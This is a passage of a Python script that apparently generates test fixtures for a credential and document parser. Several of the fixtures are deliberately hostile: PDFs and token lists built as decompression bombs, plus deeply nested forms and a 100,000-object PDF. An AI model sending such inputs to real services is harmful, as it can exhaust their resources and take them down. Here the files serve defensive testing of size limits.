    )
    yield (
        "pdf/runs-that-inflate",
        paper(good, [("credential.json", file(b"\x81\0" * 500_000, b"/Filter/RunLengthDecode"))]),
    )
    yield (
        "pdf/page-that-inflates",
        pdf(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>",
            stream(zeros, b"/Filter/FlateDecode"),
        ),
    )
    yield (
        "pdf/picture-that-inflates",
        pdf(
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>",
            stream(b"q 600 0 0 700 0 0 cm /I Do Q"),
            stream(
                zlib.compress(zeros),
                b"/Type/XObject/Subtype/Image/Width 20000/Height 20000/BitsPerComponent 8/ColorSpace/DeviceGray"
                b"/Filter[/FlateDecode/FlateDecode]",
            ),
        ),
    )
    yield "pdf/forms-within-forms", nested_forms(8, 25)
    yield "pdf/100000-objects", pdf(*[b"<<>>"] * 100_000)
    yield "lists/token-that-inflates", token_list(list={"bits": 2, "lst": zeros})
    yield "lists/token-just-too-large", token_list(list={"bits": 8, "lst": zlib.compress(bytes((1 << 17) + 1))})
    yield (
        "lists/bits-that-inflate",
        spelled(proved(with_subject(bit_document(packed=b""), encodedList="u" + b64(gzip_zeros)))),
    )
    yield "lists/token-of-300-kilobytes", token_list(list={"bits": 2, "lst": deflated(bytes(300_000))})


def nested_forms(deep: int, wide: int) -> bytes:
    """A small PDF whose page draws a form that draws the next one `wide` times, and so on."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>",
        stream(b"/F Do"),
    ]
    for level in range(deep):
        own = b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</F %d 0 R>>>>" % (6 + level)
        objects.append(stream(b"/F Do " * wide, own))
    objects.append(stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"))
    return pdf(*objects)


def made() -> dict[str, bytes]:
    """Every file that is kept, by its name."""

    def folder(name: str, ending: str, held: dict[str, Any]) -> dict[str, bytes]:
        return {
            f"{name}/{one}{ending}": content if isinstance(content, bytes) else content.encode()
            for one, content in held.items()
        }

    return {
        **static(),
        **folder("qr", ".txt", qr_texts()),
        **folder("names", ".txt", names()),
        **folder("dates", ".txt", dates()),
        **folder("cbor", ".txt", cbor_texts()),
        **folder("badge", ".json", badge_files()),
        **folder("jwt", ".jwt", jwts()),
        **folder("png", ".png", pngs()),
        **folder("jpeg", ".jpg", jpegs()),
        **folder("pdf", ".pdf", pdfs()),
        **folder("svg", ".svg", svgs()),
        **folder("lists", "", lists()),
        **folder("roster", ".csv", tables(ROSTER, "name")),
        **folder("import", ".csv", tables(IMPORT, "Last Name")),
    }


def main() -> None:
    held = made()
    for name, content in held.items():
        path = HERE / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    for path in HERE.rglob("*"):
        name = path.relative_to(HERE).as_posix()
        if path.is_file() and "/" in name and "__pycache__" not in name and name not in held:
            path.unlink()
    print(f"{len(held)} files, {sum(map(len, held.values())) >> 10} KiB")


if __name__ == "__main__":
    main()
